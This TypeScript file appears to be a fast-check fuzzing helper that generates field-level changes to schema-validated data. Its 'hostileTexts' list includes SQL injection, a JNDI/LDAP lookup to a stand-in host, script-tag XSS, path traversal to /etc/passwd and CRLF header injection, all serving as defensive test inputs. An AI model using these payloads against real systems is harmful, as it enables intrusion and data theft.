import * as fc from 'fast-check'
import { defOf, isOptional, type Schema } from './schema.ts'
import { boundsOf, valuesOf } from './values-of.ts'

export interface Field {
  path: (string | number)[]
  schema: Schema
}

/** A change to one field. `value` is absent if the field is removed. */
export interface Change {
  path: (string | number)[]
  value?: unknown
  /** Whether the new value is of a type that the field must refuse. */
  isWrongType: boolean
}

/** All fields of a part. Of a list, its first element. */
export function fieldsOf(schema: Schema, path: Field['path'] = []): Field[] {
  const def = defOf(schema)
  const here = path.length === 0 ? [] : [{ path, schema }]
  if (def.type === 'object')
    return [
      ...here,
      ...Object.entries(def.shape).flatMap(([name, field]) => fieldsOf(field, [...path, name])),
    ]
  if (def.type === 'array') return [...here, ...fieldsOf(def.element, [...path, 0])]
  if (def.type === 'optional' || def.type === 'default' || def.type === 'nullable')
    return [...here, ...fieldsOf(def.innerType, path).filter((field) => field.path.length > path.length)]
  return here
}

const EMOJI = '👩\u200D👩\u200D👧'

/** Texts that a field may not expect. */
export const hostileTexts: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '\t',
    '\u0000',
    'a\u0000b',
    'a\r\nX-Injected: 1',
    '\u202Eabc',
    '\uD800',
    '\uFEFF',
    '\u3164',
    '\u2028',
    EMOJI.repeat(40),
    `e${'\u0301'.repeat(200)}`,
    'ﷺ',
    'İ',
    'ﬁ',
    'مرحبا',
    '١',
    '１２',
    '𝟙',
    '0',
    '-1',
    '-0',
    '01',
    '1.5',
    '1e3',
    '1e309',
    '0x1',
    'NaN',
    'Infinity',
    '2147483648',
    '9007199254740993',
    'true',
    'null',
    'undefined',
    '[object Object]',
    '{"$ne":1}',
    '[]',
    ',',
    ',,',
    '1,2',
    '*',
    '%',
    '_',
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'length',
    '2026-02-30',
    '0000-00-00',
    '9999-12-31',
    '2026-13-01',
    '2026-11-23T25:00:00Z',
    '-271821-04-20',
    '2026-11-23,',
    "' OR 1=1 --",
    '${jndi:ldap://nobody.example}',
    '<script>alert(1)</script>',
    '../../etc/passwd',
    '..\\..\\x',
    'javascript:alert(1)',
    'http://127.0.0.1',
    'file:///etc/passwd',
    'https://a@b:c@d',
    'http://[',
    '//nobody.example',
    '%00',
    '%2e%2e%2f',
    '%',
    '%zz',
    '+',
    '#',
    '?',
    '&',
    '=',
    ';',
    'x'.repeat(201),
    'x'.repeat(1_025),
    'x'.repeat(5_000),
    '9'.repeat(400),
    '('.repeat(500),
  ),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.string({ unit: 'grapheme', maxLength: 30 }),
)

const hostileValues = fc.oneof(
  hostileTexts,
  fc.constantFrom<unknown>(null, true, false, 0, -1, 1.5, 1e308, -(2 ** 53), 2 ** 31, [], {}, [[]], [null], {
    $ne: '',
  }),
  fc.constantFrom<unknown>(
    { length: 3 },
    { toString: 1 },
    Array.from({ length: 300 }, () => 'x'),
  ),
  fc.jsonValue({ maxDepth: 3 }),
)

const isText = (schema: Schema): boolean => {
  const def = defOf(schema)
  if (def.type === 'pipe') return isText(def.in)
  return def.type === 'string' || def.type === 'enum'
}

/** Values of types that a field never takes, whatever its checks are. */
function wrongTypes(schema: Schema): fc.Arbitrary<unknown>[] {
  const def = defOf(schema)
  if (def.type === 'optional' || def.type === 'default' || def.type === 'nullable')
    return wrongTypes(def.innerType)
  if (isText(schema)) return [fc.constantFrom<unknown>(7, true, {}, { length: 3 }, [['x']])]
  if (def.type === 'number') return [fc.constantFrom<unknown>('seven', true, {}, [1])]
  if (def.type === 'boolean') return [fc.constantFrom<unknown>('true', 1, 0, {}, [true])]
  if (def.type === 'array') return [fc.constantFrom<unknown>('x', 7, true, { 0: 'x', length: 1 })]
  if (def.type === 'object' || def.type === 'record') return [fc.constantFrom<unknown>('x', 7, true)]
  return []
}

/** Numbers at the bounds of a field, and one beyond them. */
function atBounds(schema: Schema): fc.Arbitrary<unknown>[] {
  const def = defOf(schema)
  if (def.type === 'optional' || def.type === 'default' || def.type === 'nullable')
    return atBounds(def.innerType)
  if (def.type !== 'number') return []
  const { min, max } = boundsOf(schema)
  return [fc.constantFrom(min, max, min - 1, max + 1)]
}

/** Changes to one field of a part, which is JSON, or all texts. */
export function changesTo({ path, schema }: Field, isJson: boolean): fc.Arbitrary<Change> {
  const set = (values: fc.Arbitrary<unknown>, isWrongType = false) =>
    values.map((value) => ({ path, value, isWrongType }))
  const good = set(valuesOf(schema))
  if (!isJson) return fc.oneof(good, set(hostileTexts), fc.constant({ path, isWrongType: false }))
  return fc.oneof(
    good,
    set(hostileValues),
    ...wrongTypes(schema).map((values) => set(values, true)),
    ...atBounds(schema).map((values) => set(values)),
    fc.constant({ path, isWrongType: typeof path.at(-1) === 'string' && !isOptional(schema) }),
  )
}

/** Makes changes to a value. A change below something that is not there does nothing. */
export function changed(value: unknown, changes: readonly Change[]): unknown {
  const copy = structuredClone(value)
  for (const { path, value: next } of changes) {
    const parent = path
      .slice(0, -1)
      .reduce((at: unknown, key) => (at as Record<string, unknown>)?.[key], copy)
    const key = path.at(-1)
    if (typeof parent !== 'object' || parent === null || key === undefined) continue
    if (next === undefined) Reflect.deleteProperty(parent, key)
    else Object.assign(parent, { [key]: next })
  }
  return copy
}
